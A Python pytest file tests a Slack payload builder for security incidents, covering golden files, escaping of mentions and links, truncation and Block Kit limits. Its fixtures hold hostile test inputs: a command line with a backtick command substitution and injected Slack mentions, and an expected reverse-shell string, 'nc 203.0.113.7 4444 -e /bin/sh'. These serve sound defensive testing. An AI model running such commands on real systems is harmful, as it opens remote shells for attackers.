"""The pure Slack payload builder: golden files, escaping, truncation and Block Kit limits."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from streams.notifiers import Secret, SlackConfig, build_slack_payload
from streams.notifiers._slack_text import MARKER, code, fit, fit_line

from .fake_slack import payload_problems
from .servers import make_incident

GOLDEN = Path(__file__).parent / "golden"
CONFIG = SlackConfig(webhook_url=Secret("http://127.0.0.1:9/hook"))


def hostile_incident() -> dict[str, Any]:
    incident = make_incident(7, output="ping <!channel> & see <https://evil|click>")
    incident["events"][0]["output_fields"]["proc.cmdline"] = (
        "sh -c 'echo <!channel> <https://evil|click> <@U123> && cat `id`'"
    )
    incident["events"][0]["rule"] = "Rule <!here>"
    incident["key"] = {"container.id": "<!everyone>"}
    incident["tags"] = ["<!subteam^S1>", "ok&fine"]
    return incident


def long_incident() -> dict[str, Any]:
    event = make_incident()["events"][1]
    events = []
    for index in range(50):
        copy = json.loads(json.dumps(event))
        copy["step"] = f"step{index}"
        copy["output_fields"]["proc.cmdline"] = "<" * 400 + f" {index}"
        events.append(copy)
    return make_incident(
        8, output="x" * 5000, events=events, events_truncated=12, tags=[f"t{i}" for i in range(30)]
    )


CASES: dict[str, tuple[dict[str, Any], SlackConfig]] = {
    "slack_new": (make_incident(1), CONFIG),
    "slack_update": (
        make_incident(1, status="update", count=3, last_seen="2023-05-25T13:52:00Z"),
        CONFIG,
    ),
    "slack_hostile": (hostile_incident(), CONFIG),
    "slack_long": (long_incident(), CONFIG),
    "slack_bot_options": (
        make_incident(2, severity="warning"),
        SlackConfig(
            token=Secret("xoxb-x"),
            channel="#sec",
            username="falco-correlator",
            icon_emoji=":shield:",
        ),
    ),
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_payload_matches_golden_file(name: str) -> None:
    incident, config = CASES[name]
    payload = build_slack_payload(incident, config)
    path = GOLDEN / f"{name}.json"
    rendered = json.dumps(payload, indent=2, ensure_ascii=False, sort_keys=True) + "\n"
    if os.environ.get("UPDATE_GOLDEN") == "1":
        path.write_text(rendered, encoding="utf-8")
        pytest.fail(f"rewrote {path.name}: review the diff, then run again without UPDATE_GOLDEN")
    assert path.exists(), f"{path} is missing: run with UPDATE_GOLDEN=1 and review it"
    assert rendered == path.read_text(encoding="utf-8")


@pytest.mark.parametrize("name", sorted(CASES))
def test_payload_respects_slack_limits_and_escaping(name: str) -> None:
    incident, config = CASES[name]
    assert payload_problems(build_slack_payload(incident, config)) == []


def test_hostile_command_line_cannot_ping_or_link() -> None:
    payload = build_slack_payload(hostile_incident(), CONFIG)
    text = json.dumps(payload)
    assert "<!channel>" not in text
    assert "<https://evil|click>" not in text
    assert "&lt;!channel&gt;" in text
    assert "&lt;https://evil|click&gt;" in text
    # A backtick in the command line must not close the inline code span.
    assert "`id`" not in text


def test_new_payload_shows_context_timeline_tags_and_id() -> None:
    incident = make_incident(3)
    payload = build_slack_payload(incident, CONFIG)
    text = json.dumps(payload, ensure_ascii=False)
    for expected in (
        ":red_circle:",
        "*Critical*",
        "Shell in kubecon",
        "container.id=ee97d9c4186f",
        "kubecon (ee97d9c4186f)",
        "docker.io/library/alpine:3.20",
        "falco-xczjd",
        "`13:44:05` *shell* Terminal shell in container",
        "nc 203.0.113.7 4444 -e /bin/sh",
        "`mitre_execution`",
        incident["id"],
    ):
        assert expected in text
    assert payload["attachments"][0]["color"] == "#E01E5A"


def test_update_payload_is_a_compact_more_matches_message() -> None:
    payload = build_slack_payload(make_incident(1, status="update", count=2), CONFIG)
    assert payload["text"].startswith("1 more match: ")
    assert len(payload["blocks"]) == 2
    payload = build_slack_payload(make_incident(1, status="update", count=5), CONFIG)
    assert "4 more matches" in payload["text"]
    assert "(5 in total)" in payload["text"]


def test_long_incident_is_truncated_with_marker_and_mentions_hidden_events() -> None:
    payload = build_slack_payload(long_incident(), CONFIG)
    first = payload["blocks"][0]["text"]["text"]
    assert first.endswith(MARKER)
    text = json.dumps(payload, ensure_ascii=False)
    assert "Timeline* (62 events)" in text
    assert "52 more events" in text  # 50 shown at most 10 (9 + last), 12 already cut upstream
    assert "step49" in text


def test_fit_never_splits_an_entity() -> None:
    for limit in range(2, 30):
        out = fit("<&>" * 20, limit)
        assert len(out) <= limit
        assert out.endswith(MARKER)
        body = out.removesuffix(MARKER)
        assert body.replace("&lt;", "").replace("&amp;", "").replace("&gt;", "") == ""


def test_code_span_is_single_line_and_escaped() -> None:
    assert code("a\nb  `c` <d>", 100) == "`a b \u02cbc\u02cb &lt;d&gt;`"
    assert code("", 10) == "`-`"


def test_unknown_severity_and_missing_fields_do_not_break_the_builder() -> None:
    incident = {"id": "x", "severity": "weird", "events": [{"time": None}], "context": None}
    payload = build_slack_payload(incident, CONFIG)
    assert payload_problems(payload) == []
    assert ":grey_question:" in payload["text"]


def test_fit_line_does_not_leave_half_an_entity() -> None:
    text = "a" + "&lt;" * 1000
    out = fit_line(text)
    assert len(out) <= 3000
    assert out.endswith("&lt;" + MARKER)


def test_every_event_shown_still_fits_slack_limits() -> None:
    config = SlackConfig(webhook_url=Secret("http://127.0.0.1:9/hook"), max_timeline_events=1000)
    payload = build_slack_payload(long_incident(), config)
    assert payload_problems(payload) == []
    timeline = [b for b in payload["blocks"] if "step" in json.dumps(b)]
    assert len(timeline) > 1  # split across several sections of at most 3000 characters
    assert sum(json.dumps(b).count("*step") for b in timeline) == 50
